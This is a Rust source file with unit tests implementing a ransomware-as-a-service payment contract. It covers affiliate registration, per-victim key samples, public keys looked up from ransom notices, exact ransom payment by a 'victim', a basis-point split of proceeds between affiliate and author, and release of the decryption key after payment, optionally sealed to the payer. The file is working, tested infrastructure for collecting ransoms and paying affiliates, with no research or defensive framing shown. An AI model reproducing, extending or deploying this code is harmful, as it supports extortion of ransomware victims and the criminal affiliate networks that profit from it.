//! The registration-and-payment contract as a deterministic state machine.
//!
//! One instance hosts every entry point: affiliate registration, sample key
//! request, public/secret key publication, ransom payment and split. The
//! ledger decodes a contract call into an [`EscrowCall`] and hands it to
//! [`EscrowState::apply`], which either returns the effects to commit or an
//! error that reverts the transaction. `apply` validates fully before it
//! mutates, so an error leaves the state untouched.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::codec::{DecodeError, Decoder, Encoder};
use crate::symcrypto::{AsymCiphertext, PublicKey, SecretKey};
use crate::types::{Address, Attributes, EventKind, Gas, GasSchedule, SampleId, TxHash, Wei};

pub const MAX_SHARE_BP: u64 = 10_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Error, Serialize, Deserialize)]
pub enum EscrowError {
    #[error("affiliate share must be within 0..=10000 basis points")]
    BadShare,
    #[error("ransom amount must be positive")]
    BadAmount,
    #[error("caller is already a registered affiliate")]
    AlreadyRegistered,
    #[error("caller is not a registered affiliate")]
    NotRegistered,
    #[error("only the author may call this function")]
    NotAuthor,
    #[error("unknown sample")]
    UnknownSample,
    #[error("public key already set")]
    PkAlreadySet,
    #[error("public key not set")]
    PkNotSet,
    #[error("payment must equal the ransom amount")]
    WrongAmount,
    #[error("sample already paid")]
    AlreadyPaid,
    #[error("sample not paid")]
    NotPaid,
    #[error("ransom already split")]
    AlreadySplit,
    #[error("secret key already set")]
    SkAlreadySet,
    #[error("secret key not set")]
    SkNotSet,
    #[error("function does not accept value")]
    NotPayable,
    #[error("unknown function")]
    UnknownFunction,
    #[error("malformed call arguments")]
    BadArguments,
    #[error("encrypted delivery requires a recipient key with the payment")]
    MissingRecipientKey,
    #[error("secret payload does not match the delivery mode")]
    PayloadMismatch,
}

impl From<DecodeError> for EscrowError {
    fn from(_: DecodeError) -> Self {
        EscrowError::BadArguments
    }
}

/// Deployment parameters, fixed for the life of the contract.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct EscrowConfig {
    pub author: Address,
    pub ransom_amount: Wei,
    pub affiliate_share_bp: u64,
    /// When set, secret keys are published sealed to a key the payer
    /// supplied with the payment instead of in the clear.
    pub encrypted_delivery: bool,
}

/// Argument bytes of a deployment transaction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeployArgs {
    pub ransom_amount: Wei,
    pub affiliate_share_bp: u64,
    pub encrypted_delivery: bool,
}

impl DeployArgs {
    pub fn encode(&self) -> Vec<u8> {
        let mut enc = Encoder::new();
        enc.u128(self.ransom_amount.0)
            .u64(self.affiliate_share_bp)
            .u8(u8::from(self.encrypted_delivery));
        enc.finish()
    }

    pub fn decode(bytes: &[u8]) -> Result<Self, EscrowError> {
        let mut dec = Decoder::new(bytes);
        let ransom_amount = Wei(dec.u128()?);
        let affiliate_share_bp = dec.u64()?;
        let encrypted_delivery = match dec.u8()? {
            0 => false,
            1 => true,
            _ => return Err(EscrowError::BadArguments),
        };
        dec.finish()?;
        Ok(Self {
            ransom_amount,
            affiliate_share_bp,
            encrypted_delivery,
        })
    }
}

/// What `set_sample_sk` stores.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum SecretPayload {
    Clear(SecretKey),
    Sealed(AsymCiphertext),
}

impl SecretPayload {
    fn encode(&self, enc: &mut Encoder) {
        match self {
            SecretPayload::Clear(sk) => {
                enc.u8(0).bytes(&sk.0);
            }
            SecretPayload::Sealed(ct) => {
                enc.u8(1);
                ct.encode(enc);
            }
        }
    }

    fn decode(dec: &mut Decoder<'_>) -> Result<Self, DecodeError> {
        match dec.u8()? {
            0 => Ok(SecretPayload::Clear(SecretKey(dec.fixed()?))),
            1 => Ok(SecretPayload::Sealed(AsymCiphertext::decode(dec)?)),
            t => Err(DecodeError::BadTag(t)),
        }
    }

    /// Canonical bytes, as carried in the `secret` event attribute.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut enc = Encoder::new();
        self.encode(&mut enc);
        enc.finish()
    }

    pub fn from_bytes(bytes: &[u8]) -> Result<Self, DecodeError> {
        let mut dec = Decoder::new(bytes);
        let out = Self::decode(&mut dec)?;
        dec.finish()?;
        Ok(out)
    }

    pub fn is_sealed(&self) -> bool {
        matches!(self, SecretPayload::Sealed(_))
    }
}

/// A decoded contract call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EscrowCall {
    RegisterAffiliate,
    RequestSampleKey,
    SetSamplePk {
        sample_id: SampleId,
        pk: PublicKey,
    },
    PayRansom {
        sample_id: SampleId,
        recipient_pk: Option<PublicKey>,
    },
    SplitRansom {
        sample_id: SampleId,
    },
    SetSampleSk {
        sample_id: SampleId,
        payload: SecretPayload,
    },
}

pub mod function {
    pub const REGISTER_AFFILIATE: &str = "register_affiliate";
    pub const REQUEST_SAMPLE_KEY: &str = "request_sample_key";
    pub const SET_SAMPLE_PK: &str = "set_sample_pk";
    pub const PAY_RANSOM: &str = "pay_ransom";
    pub const SPLIT_RANSOM: &str = "split_ransom";
    pub const SET_SAMPLE_SK: &str = "set_sample_sk";
}

impl EscrowCall {
    pub fn function_name(&self) -> &'static str {
        match self {
            EscrowCall::RegisterAffiliate => function::REGISTER_AFFILIATE,
            EscrowCall::RequestSampleKey => function::REQUEST_SAMPLE_KEY,
            EscrowCall::SetSamplePk { .. } => function::SET_SAMPLE_PK,
            EscrowCall::PayRansom { .. } => function::PAY_RANSOM,
            EscrowCall::SplitRansom { .. } => function::SPLIT_RANSOM,
            EscrowCall::SetSampleSk { .. } => function::SET_SAMPLE_SK,
        }
    }

    pub fn encode_args(&self) -> Vec<u8> {
        let mut enc = Encoder::new();
        match self {
            EscrowCall::RegisterAffiliate | EscrowCall::RequestSampleKey => {}
            EscrowCall::SetSamplePk { sample_id, pk } => {
                enc.bytes(&sample_id.0).bytes(&pk.0);
            }
            EscrowCall::PayRansom {
                sample_id,
                recipient_pk,
            } => {
                enc.bytes(&sample_id.0);
                match recipient_pk {
                    None => {
                        enc.u8(0);
                    }
                    Some(pk) => {
                        enc.u8(1).bytes(&pk.0);
                    }
                }
            }
            EscrowCall::SplitRansom { sample_id } => {
                enc.bytes(&sample_id.0);
            }
            EscrowCall::SetSampleSk { sample_id, payload } => {
                enc.bytes(&sample_id.0);
                payload.encode(&mut enc);
            }
        }
        enc.finish()
    }

    pub fn decode(function: &str, args: &[u8]) -> Result<Self, EscrowError> {
        let mut dec = Decoder::new(args);
        let call = match function {
            function::REGISTER_AFFILIATE => EscrowCall::RegisterAffiliate,
            function::REQUEST_SAMPLE_KEY => EscrowCall::RequestSampleKey,
            function::SET_SAMPLE_PK => EscrowCall::SetSamplePk {
                sample_id: SampleId(dec.fixed()?),
                pk: PublicKey(dec.fixed()?),
            },
            function::PAY_RANSOM => {
                let sample_id = SampleId(dec.fixed()?);
                let recipient_pk = match dec.u8()? {
                    0 => None,
                    1 => Some(PublicKey(dec.fixed()?)),
                    _ => return Err(EscrowError::BadArguments),
                };
                EscrowCall::PayRansom {
                    sample_id,
                    recipient_pk,
                }
            }
            function::SPLIT_RANSOM => EscrowCall::SplitRansom {
                sample_id: SampleId(dec.fixed()?),
            },
            function::SET_SAMPLE_SK => EscrowCall::SetSampleSk {
                sample_id: SampleId(dec.fixed()?),
                payload: SecretPayload::decode(&mut dec)?,
            },
            _ => return Err(EscrowError::UnknownFunction),
        };
        dec.finish()?;
        Ok(call)
    }

    /// Gas charged for `function` under `schedule`; `None` if the name is unknown.
    pub fn gas_for(function: &str, schedule: &GasSchedule) -> Option<Gas> {
        Some(match function {
            function::REGISTER_AFFILIATE => schedule.register,
            function::REQUEST_SAMPLE_KEY => schedule.request_key,
            function::SET_SAMPLE_PK => schedule.set_pk,
            function::PAY_RANSOM => schedule.pay,
            function::SPLIT_RANSOM => schedule.split,
            function::SET_SAMPLE_SK => schedule.set_sk,
            _ => return None,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AffiliateRecord {
    pub affiliate: Address,
    pub sample_ids: Vec<SampleId>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyRecord {
    pub sample_id: SampleId,
    pub affiliate: Address,
    pub pk: Option<PublicKey>,
    pub sk: Option<SecretPayload>,
    pub paid_by: Option<Address>,
    pub paid_amount: Wei,
    pub recipient_pk: Option<PublicKey>,
    pub split_done: bool,
}

/// Caller-side facts the contract sees for one transaction.
#[derive(Debug, Clone, Copy)]
pub struct CallContext {
    pub caller: Address,
    pub value: Wei,
    pub tx_hash: TxHash,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payout {
    pub to: Address,
    pub amount: Wei,
}

/// Committed outcome of a successful call.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Effects {
    pub events: Vec<(EventKind, Attributes)>,
    /// Transfers out of the contract balance, in order.
    pub payouts: Vec<Payout>,
}

/// Floor of `amount * bp / 10000` without intermediate overflow.
pub fn affiliate_cut(amount: Wei, bp: u64) -> Wei {
    let bp = u128::from(bp);
    let q = amount.0 / 10_000;
    let r = amount.0 % 10_000;
    Wei(q * bp + r * bp / 10_000)
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EscrowState {
    config: EscrowConfig,
    affiliates: BTreeMap<Address, AffiliateRecord>,
    keys: BTreeMap<SampleId, KeyRecord>,
    pk_index: BTreeMap<PublicKey, SampleId>,
    escrow_balance: Wei,
}

impl EscrowState {
    pub fn deploy(author: Address, args: DeployArgs) -> Result<Self, EscrowError> {
        if args.affiliate_share_bp > MAX_SHARE_BP {
            return Err(EscrowError::BadShare);
        }
        if args.ransom_amount == Wei::ZERO {
            return Err(EscrowError::BadAmount);
        }
        Ok(Self {
            config: EscrowConfig {
                author,
                ransom_amount: args.ransom_amount,
                affiliate_share_bp: args.affiliate_share_bp,
                encrypted_delivery: args.encrypted_delivery,
            },
            affiliates: BTreeMap::new(),
            keys: BTreeMap::new(),
            pk_index: BTreeMap::new(),
            escrow_balance: Wei::ZERO,
        })
    }

    pub fn config(&self) -> &EscrowConfig {
        &self.config
    }

    pub fn escrow_balance(&self) -> Wei {
        self.escrow_balance
    }

    pub fn is_registered(&self, addr: &Address) -> bool {
        self.affiliates.contains_key(addr)
    }

    pub fn affiliate(&self, addr: &Address) -> Option<&AffiliateRecord> {
        self.affiliates.get(addr)
    }

    pub fn affiliates(&self) -> impl Iterator<Item = &AffiliateRecord> {
        self.affiliates.values()
    }

    pub fn key_record(&self, id: &SampleId) -> Option<&KeyRecord> {
        self.keys.get(id)
    }

    pub fn key_records(&self) -> impl Iterator<Item = &KeyRecord> {
        self.keys.values()
    }

    pub fn get_sample_pk(&self, id: &SampleId) -> Result<PublicKey, EscrowError> {
        let rec = self.keys.get(id).ok_or(EscrowError::UnknownSample)?;
        rec.pk.ok_or(EscrowError::PkNotSet)
    }

    pub fn get_sample_sk(&self, id: &SampleId) -> Result<&SecretPayload, EscrowError> {
        let rec = self.keys.get(id).ok_or(EscrowError::UnknownSample)?;
        rec.sk.as_ref().ok_or(EscrowError::SkNotSet)
    }

    /// Payment-page lookup from the key shown in a ransom notice.
    pub fn sample_for_pk(&self, pk: &PublicKey) -> Option<SampleId> {
        self.pk_index.get(pk).copied()
    }

    fn require_author(&self, caller: &Address) -> Result<(), EscrowError> {
        if *caller == self.config.author {
            Ok(())
        } else {
            Err(EscrowError::NotAuthor)
        }
    }

    fn record(&self, id: &SampleId) -> Result<&KeyRecord, EscrowError> {
        self.keys.get(id).ok_or(EscrowError::UnknownSample)
    }

    fn record_mut(&mut self, id: &SampleId) -> &mut KeyRecord {
        self.keys
            .get_mut(id)
            .expect("record validated before mutation")
    }

    /// Executes one call. On error nothing has changed.
    pub fn apply(&mut self, ctx: CallContext, call: EscrowCall) -> Result<Effects, EscrowError> {
        let payable = matches!(call, EscrowCall::PayRansom { .. });
        if !payable && ctx.value != Wei::ZERO {
            return Err(EscrowError::NotPayable);
        }
        match call {
            EscrowCall::RegisterAffiliate => self.register_affiliate(ctx),
            EscrowCall::RequestSampleKey => self.request_sample_key(ctx),
            EscrowCall::SetSamplePk { sample_id, pk } => self.set_sample_pk(ctx, sample_id, pk),
            EscrowCall::PayRansom {
                sample_id,
                recipient_pk,
            } => self.pay_ransom(ctx, sample_id, recipient_pk),
            EscrowCall::SplitRansom { sample_id } => self.split_ransom(ctx, sample_id),
            EscrowCall::SetSampleSk { sample_id, payload } => {
                self.set_sample_sk(ctx, sample_id, payload)
            }
        }
    }

    fn register_affiliate(&mut self, ctx: CallContext) -> Result<Effects, EscrowError> {
        if self.affiliates.contains_key(&ctx.caller) {
            return Err(EscrowError::AlreadyRegistered);
        }
        self.affiliates.insert(
            ctx.caller,
            AffiliateRecord {
                affiliate: ctx.caller,
                sample_ids: Vec::new(),
            },
        );
        Ok(single(
            EventKind::AffiliateRegistered,
            Attributes::default().with("affiliate", ctx.caller),
        ))
    }

    fn request_sample_key(&mut self, ctx: CallContext) -> Result<Effects, EscrowError> {
        let sample_id = SampleId::from(ctx.tx_hash);
        let rec = self
            .affiliates
            .get_mut(&ctx.caller)
            .ok_or(EscrowError::NotRegistered)?;
        // Transaction hashes are unique, so the id cannot already exist.
        debug_assert!(!self.keys.contains_key(&sample_id));
        rec.sample_ids.push(sample_id);
        self.keys.insert(
            sample_id,
            KeyRecord {
                sample_id,
                affiliate: ctx.caller,
                pk: None,
                sk: None,
                paid_by: None,
                paid_amount: Wei::ZERO,
                recipient_pk: None,
                split_done: false,
            },
        );
        Ok(single(
            EventKind::SampleKeyRequested,
            Attributes::default()
                .with("sample_id", sample_id)
                .with("affiliate", ctx.caller),
        ))
    }

    fn set_sample_pk(
        &mut self,
        ctx: CallContext,
        sample_id: SampleId,
        pk: PublicKey,
    ) -> Result<Effects, EscrowError> {
        self.require_author(&ctx.caller)?;
        if self.record(&sample_id)?.pk.is_some() {
            return Err(EscrowError::PkAlreadySet);
        }
        self.record_mut(&sample_id).pk = Some(pk);
        self.pk_index.entry(pk).or_insert(sample_id);
        Ok(single(
            EventKind::SampleKeyPublished,
            Attributes::default()
                .with("sample_id", sample_id)
                .with("pk", pk),
        ))
    }

    fn pay_ransom(
        &mut self,
        ctx: CallContext,
        sample_id: SampleId,
        recipient_pk: Option<PublicKey>,
    ) -> Result<Effects, EscrowError> {
        let rec = self.record(&sample_id)?;
        if rec.pk.is_none() {
            return Err(EscrowError::PkNotSet);
        }
        if rec.paid_by.is_some() {
            return Err(EscrowError::AlreadyPaid);
        }
        if ctx.value != self.config.ransom_amount {
            return Err(EscrowError::WrongAmount);
        }
        match (self.config.encrypted_delivery, recipient_pk) {
            (true, None) => return Err(EscrowError::MissingRecipientKey),
            (false, Some(_)) => return Err(EscrowError::BadArguments),
            _ => {}
        }
        let new_balance = self
            .escrow_balance
            .checked_add(ctx.value)
            .ok_or(EscrowError::BadAmount)?;

        let rec = self.record_mut(&sample_id);
        rec.paid_by = Some(ctx.caller);
        rec.paid_amount = ctx.value;
        rec.recipient_pk = recipient_pk;
        self.escrow_balance = new_balance;

        let mut attrs = Attributes::default()
            .with("sample_id", sample_id)
            .with("amount", ctx.value.0.to_be_bytes())
            .with("payer", ctx.caller);
        if let Some(pk) = recipient_pk {
            attrs = attrs.with("recipient_pk", pk);
        }
        Ok(single(EventKind::RansomPaid, attrs))
    }

    fn split_ransom(
        &mut self,
        ctx: CallContext,
        sample_id: SampleId,
    ) -> Result<Effects, EscrowError> {
        self.require_author(&ctx.caller)?;
        let rec = self.record(&sample_id)?;
        if rec.paid_by.is_none() {
            return Err(EscrowError::NotPaid);
        }
        if rec.split_done {
            return Err(EscrowError::AlreadySplit);
        }
        let amount = rec.paid_amount;
        let affiliate = rec.affiliate;
        let affiliate_amount = affiliate_cut(amount, self.config.affiliate_share_bp);
        let author_amount = amount
            .checked_sub(affiliate_amount)
            .expect("cut never exceeds amount");
        let new_balance = self
            .escrow_balance
            .checked_sub(amount)
            .expect("escrow balance covers every unsplit payment");

        self.record_mut(&sample_id).split_done = true;
        self.escrow_balance = new_balance;

        let author = self.config.author;
        let attrs = Attributes::default()
            .with("sample_id", sample_id)
            .with("affiliate", affiliate)
            .with("affiliate_amount", affiliate_amount.0.to_be_bytes())
            .with("author", author)
            .with("author_amount", author_amount.0.to_be_bytes());
        Ok(Effects {
            events: vec![(EventKind::RansomSplit, attrs)],
            payouts: vec![
                Payout {
                    to: affiliate,
                    amount: affiliate_amount,
                },
                Payout {
                    to: author,
                    amount: author_amount,
                },
            ],
        })
    }

    fn set_sample_sk(
        &mut self,
        ctx: CallContext,
        sample_id: SampleId,
        payload: SecretPayload,
    ) -> Result<Effects, EscrowError> {
        self.require_author(&ctx.caller)?;
        let rec = self.record(&sample_id)?;
        if rec.paid_by.is_none() {
            return Err(EscrowError::NotPaid);
        }
        if rec.sk.is_some() {
            return Err(EscrowError::SkAlreadySet);
        }
        let mode_ok = match (&payload, rec.recipient_pk) {
            (SecretPayload::Clear(_), None) => !self.config.encrypted_delivery,
            (SecretPayload::Sealed(ct), Some(pk)) => ct.pk_tag == pk,
            _ => false,
        };
        if !mode_ok {
            return Err(EscrowError::PayloadMismatch);
        }
        let attrs = Attributes::default()
            .with("sample_id", sample_id)
            .with("secret", payload.to_bytes())
            .with("sealed", [u8::from(payload.is_sealed())]);
        self.record_mut(&sample_id).sk = Some(payload);
        Ok(single(EventKind::SampleSecretPublished, attrs))
    }

    /// Structural invariants; returns a description of the first violation.
    pub fn check_invariants(&self) -> Result<(), String> {
        let mut unsplit = Wei::ZERO;
        for rec in self.keys.values() {
            if rec.sk.is_some() && rec.paid_by.is_none() {
                return Err(format!("sample {} has sk without payment", rec.sample_id));
            }
            if rec.split_done && rec.paid_by.is_none() {
                return Err(format!("sample {} split without payment", rec.sample_id));
            }
            if rec.paid_by.is_some() && rec.pk.is_none() {
                return Err(format!("sample {} paid before pk", rec.sample_id));
            }
            if rec.paid_by.is_some() && !rec.split_done {
                unsplit = unsplit
                    .checked_add(rec.paid_amount)
                    .ok_or("escrow overflow")?;
            }
            let listed = self
                .affiliates
                .get(&rec.affiliate)
                .is_some_and(|a| a.sample_ids.contains(&rec.sample_id));
            if !listed {
                return Err(format!(
                    "sample {} missing from affiliate record",
                    rec.sample_id
                ));
            }
        }
        if unsplit != self.escrow_balance {
            return Err(format!(
                "escrow balance {} != unsplit payments {}",
                self.escrow_balance, unsplit
            ));
        }
        Ok(())
    }
}

fn single(kind: EventKind, attrs: Attributes) -> Effects {
    Effects {
        events: vec![(kind, attrs)],
        payouts: Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::symcrypto::{kdf_keypair, seal};

    const RANSOM: Wei = Wei::ETHER;

    fn author() -> Address {
        Address::from_seed(b"author-1")
    }

    fn aff() -> Address {
        Address::from_seed(b"affiliate-1")
    }

    fn victim() -> Address {
        Address::from_seed(b"victim-1")
    }

    fn deployed(share: u64) -> EscrowState {
        EscrowState::deploy(
            author(),
            DeployArgs {
                ransom_amount: RANSOM,
                affiliate_share_bp: share,
                encrypted_delivery: false,
            },
        )
        .unwrap()
    }

    fn ctx(caller: Address, value: Wei, tag: u8) -> CallContext {
        CallContext {
            caller,
            value,
            tx_hash: TxHash([tag; 32]),
        }
    }

    /// Registers `aff()`, requests one sample and publishes its pk.
    fn with_published_sample(state: &mut EscrowState) -> SampleId {
        state
            .apply(ctx(aff(), Wei::ZERO, 1), EscrowCall::RegisterAffiliate)
            .unwrap();
        state
            .apply(ctx(aff(), Wei::ZERO, 2), EscrowCall::RequestSampleKey)
            .unwrap();
        let sample_id = SampleId([2; 32]);
        let (_, pk) = kdf_keypair(&sample_id.0).unwrap();
        state
            .apply(
                ctx(author(), Wei::ZERO, 3),
                EscrowCall::SetSamplePk { sample_id, pk },
            )
            .unwrap();
        sample_id
    }

    fn pay(state: &mut EscrowState, id: SampleId, value: Wei) -> Result<Effects, EscrowError> {
        state.apply(
            ctx(victim(), value, 4),
            EscrowCall::PayRansom {
                sample_id: id,
                recipient_pk: None,
            },
        )
    }

    #[test]
    fn deploy_validates_share_and_amount() {
        let args = |share, amount| DeployArgs {
            ransom_amount: amount,
            affiliate_share_bp: share,
            encrypted_delivery: false,
        };
        assert_eq!(
            EscrowState::deploy(author(), args(10_001, RANSOM)),
            Err(EscrowError::BadShare)
        );
        assert_eq!(
            EscrowState::deploy(author(), args(100, Wei::ZERO)),
            Err(EscrowError::BadAmount)
        );
        assert!(EscrowState::deploy(author(), args(10_000, RANSOM)).is_ok());
    }

    #[test]
    fn registration_is_once_per_address_and_author_may_register() {
        let mut s = deployed(3000);
        let fx = s
            .apply(ctx(aff(), Wei::ZERO, 1), EscrowCall::RegisterAffiliate)
            .unwrap();
        assert_eq!(fx.events.len(), 1);
        assert_eq!(fx.events[0].0, EventKind::AffiliateRegistered);
        assert_eq!(
            s.apply(ctx(aff(), Wei::ZERO, 2), EscrowCall::RegisterAffiliate),
            Err(EscrowError::AlreadyRegistered)
        );
        s.apply(ctx(author(), Wei::ZERO, 3), EscrowCall::RegisterAffiliate)
            .unwrap();
        assert!(s.is_registered(&author()));
    }

    #[test]
    fn sample_request_requires_registration_and_keeps_order() {
        let mut s = deployed(3000);
        assert_eq!(
            s.apply(ctx(aff(), Wei::ZERO, 1), EscrowCall::RequestSampleKey),
            Err(EscrowError::NotRegistered)
        );
        s.apply(ctx(aff(), Wei::ZERO, 2), EscrowCall::RegisterAffiliate)
            .unwrap();
        let fx = s
            .apply(ctx(aff(), Wei::ZERO, 3), EscrowCall::RequestSampleKey)
            .unwrap();
        assert_eq!(
            fx.events[0].1.sample_id("sample_id"),
            Some(SampleId([3; 32]))
        );
        s.apply(ctx(aff(), Wei::ZERO, 4), EscrowCall::RequestSampleKey)
            .unwrap();
        assert_eq!(
            s.affiliate(&aff()).unwrap().sample_ids,
            vec![SampleId([3; 32]), SampleId([4; 32])]
        );
    }

    #[test]
    fn pk_writes_are_author_only_and_write_once() {
        let mut s = deployed(3000);
        s.apply(ctx(aff(), Wei::ZERO, 1), EscrowCall::RegisterAffiliate)
            .unwrap();
        s.apply(ctx(aff(), Wei::ZERO, 2), EscrowCall::RequestSampleKey)
            .unwrap();
        let id = SampleId([2; 32]);
        let pk = PublicKey([7; 32]);
        let before = s.clone();
        assert_eq!(
            s.apply(
                ctx(aff(), Wei::ZERO, 3),
                EscrowCall::SetSamplePk { sample_id: id, pk }
            ),
            Err(EscrowError::NotAuthor)
        );
        assert_eq!(s, before);
        assert_eq!(s.get_sample_pk(&id), Err(EscrowError::PkNotSet));
        s.apply(
            ctx(author(), Wei::ZERO, 4),
            EscrowCall::SetSamplePk { sample_id: id, pk },
        )
        .unwrap();
        assert_eq!(s.get_sample_pk(&id), Ok(pk));
        assert_eq!(s.sample_for_pk(&pk), Some(id));
        assert_eq!(
            s.apply(
                ctx(author(), Wei::ZERO, 5),
                EscrowCall::SetSamplePk { sample_id: id, pk }
            ),
            Err(EscrowError::PkAlreadySet)
        );
        assert_eq!(
            s.get_sample_pk(&SampleId([9; 32])),
            Err(EscrowError::UnknownSample)
        );
    }

    #[test]
    fn payment_must_be_exact_and_single() {
        let mut s = deployed(3000);
        let id = with_published_sample(&mut s);
        let before = s.clone();
        assert_eq!(
            pay(&mut s, id, Wei(RANSOM.0 - 1)),
            Err(EscrowError::WrongAmount)
        );
        assert_eq!(s, before);
        let fx = pay(&mut s, id, RANSOM).unwrap();
        assert_eq!(fx.events[0].0, EventKind::RansomPaid);
        assert_eq!(fx.events[0].1.wei("amount"), Some(RANSOM));
        assert_eq!(s.escrow_balance(), RANSOM);
        assert_eq!(pay(&mut s, id, RANSOM), Err(EscrowError::AlreadyPaid));
    }

    #[test]
    fn payment_before_pk_is_rejected() {
        let mut s = deployed(3000);
        s.apply(ctx(aff(), Wei::ZERO, 1), EscrowCall::RegisterAffiliate)
            .unwrap();
        s.apply(ctx(aff(), Wei::ZERO, 2), EscrowCall::RequestSampleKey)
            .unwrap();
        assert_eq!(
            pay(&mut s, SampleId([2; 32]), RANSOM),
            Err(EscrowError::PkNotSet)
        );
    }

    #[test]
    fn split_pays_floor_to_affiliate_and_remainder_to_author() {
        let mut s = deployed(3000);
        let id = with_published_sample(&mut s);
        assert_eq!(
            s.apply(
                ctx(author(), Wei::ZERO, 5),
                EscrowCall::SplitRansom { sample_id: id }
            ),
            Err(EscrowError::NotPaid)
        );
        pay(&mut s, id, RANSOM).unwrap();
        assert_eq!(
            s.apply(
                ctx(aff(), Wei::ZERO, 6),
                EscrowCall::SplitRansom { sample_id: id }
            ),
            Err(EscrowError::NotAuthor)
        );
        let fx = s
            .apply(
                ctx(author(), Wei::ZERO, 7),
                EscrowCall::SplitRansom { sample_id: id },
            )
            .unwrap();
        assert_eq!(
            fx.payouts,
            vec![
                Payout {
                    to: aff(),
                    amount: Wei(300_000_000_000_000_000)
                },
                Payout {
                    to: author(),
                    amount: Wei(700_000_000_000_000_000)
                },
            ]
        );
        assert_eq!(s.escrow_balance(), Wei::ZERO);
        assert_eq!(
            s.apply(
                ctx(author(), Wei::ZERO, 8),
                EscrowCall::SplitRansom { sample_id: id }
            ),
            Err(EscrowError::AlreadySplit)
        );
        s.check_invariants().unwrap();
    }

    #[test]
    fn zero_share_sends_everything_to_author() {
        assert_eq!(affiliate_cut(RANSOM, 0), Wei::ZERO);
        assert_eq!(affiliate_cut(Wei(3), 5000), Wei(1));
    }

    #[test]
    fn affiliate_cut_matches_floor_formula_exhaustively() {
        // Brute force against the naive product, which cannot overflow here.
        for amount in 0u128..=100 {
            for bp in [0u64, 1, 2500, 3000, 3333, 5000, 9999, 10_000] {
                let cut = affiliate_cut(Wei(amount), bp);
                assert_eq!(cut.0, amount * u128::from(bp) / 10_000);
                assert!(cut.0 <= amount);
            }
        }
        // Large amounts stay exact where the naive product would overflow.
        let big = Wei(u128::MAX);
        assert_eq!(affiliate_cut(big, 10_000), big);
    }

    #[test]
    fn secret_release_requires_payment_and_author() {
        let mut s = deployed(3000);
        let id = with_published_sample(&mut s);
        let (sk, _) = kdf_keypair(&id.0).unwrap();
        let set = |sk| EscrowCall::SetSampleSk {
            sample_id: id,
            payload: SecretPayload::Clear(sk),
        };
        assert_eq!(
            s.apply(ctx(author(), Wei::ZERO, 5), set(sk)),
            Err(EscrowError::NotPaid)
        );
        assert_eq!(s.get_sample_sk(&id), Err(EscrowError::SkNotSet));
        pay(&mut s, id, RANSOM).unwrap();
        assert_eq!(
            s.apply(ctx(aff(), Wei::ZERO, 6), set(sk)),
            Err(EscrowError::NotAuthor)
        );
        s.apply(ctx(author(), Wei::ZERO, 7), set(sk)).unwrap();
        assert_eq!(s.get_sample_sk(&id), Ok(&SecretPayload::Clear(sk)));
        assert_eq!(
            s.apply(ctx(author(), Wei::ZERO, 8), set(sk)),
            Err(EscrowError::SkAlreadySet)
        );
    }

    #[test]
    fn encrypted_delivery_requires_matching_sealed_payload() {
        let mut s = EscrowState::deploy(
            author(),
            DeployArgs {
                ransom_amount: RANSOM,
                affiliate_share_bp: 3000,
                encrypted_delivery: true,
            },
        )
        .unwrap();
        let id = with_published_sample(&mut s);
        assert_eq!(
            pay(&mut s, id, RANSOM),
            Err(EscrowError::MissingRecipientKey)
        );
        let victim_pk = PublicKey([0xaa; 32]);
        s.apply(
            ctx(victim(), RANSOM, 4),
            EscrowCall::PayRansom {
                sample_id: id,
                recipient_pk: Some(victim_pk),
            },
        )
        .unwrap();
        let (sk, _) = kdf_keypair(&id.0).unwrap();
        let clear = EscrowCall::SetSampleSk {
            sample_id: id,
            payload: SecretPayload::Clear(sk),
        };
        assert_eq!(
            s.apply(ctx(author(), Wei::ZERO, 5), clear),
            Err(EscrowError::PayloadMismatch)
        );
        let wrong = EscrowCall::SetSampleSk {
            sample_id: id,
            payload: SecretPayload::Sealed(seal(&PublicKey([0xbb; 32]), &sk.0)),
        };
        assert_eq!(
            s.apply(ctx(author(), Wei::ZERO, 6), wrong),
            Err(EscrowError::PayloadMismatch)
        );
        let good = EscrowCall::SetSampleSk {
            sample_id: id,
            payload: SecretPayload::Sealed(seal(&victim_pk, &sk.0)),
        };
        let fx = s.apply(ctx(author(), Wei::ZERO, 7), good).unwrap();
        assert_eq!(fx.events[0].1.get("sealed"), Some(&[1u8][..]));
    }

    #[test]
    fn non_payable_functions_reject_value() {
        let mut s = deployed(3000);
        assert_eq!(
            s.apply(ctx(aff(), Wei(1), 1), EscrowCall::RegisterAffiliate),
            Err(EscrowError::NotPayable)
        );
    }

    #[test]
    fn call_encoding_round_trips() {
        let calls = [
            EscrowCall::RegisterAffiliate,
            EscrowCall::RequestSampleKey,
            EscrowCall::SetSamplePk {
                sample_id: SampleId([1; 32]),
                pk: PublicKey([2; 32]),
            },
            EscrowCall::PayRansom {
                sample_id: SampleId([3; 32]),
                recipient_pk: Some(PublicKey([4; 32])),
            },
            EscrowCall::SplitRansom {
                sample_id: SampleId([5; 32]),
            },
            EscrowCall::SetSampleSk {
                sample_id: SampleId([6; 32]),
                payload: SecretPayload::Sealed(seal(&PublicKey([7; 32]), b"k")),
            },
        ];
        for call in calls {
            let back = EscrowCall::decode(call.function_name(), &call.encode_args()).unwrap();
            assert_eq!(back, call);
        }
        assert_eq!(
            EscrowCall::decode("selfdestruct", &[]),
            Err(EscrowError::UnknownFunction)
        );
        assert_eq!(
            EscrowCall::decode(function::SPLIT_RANSOM, &[0, 0]),
            Err(EscrowError::BadArguments)
        );
    }
}
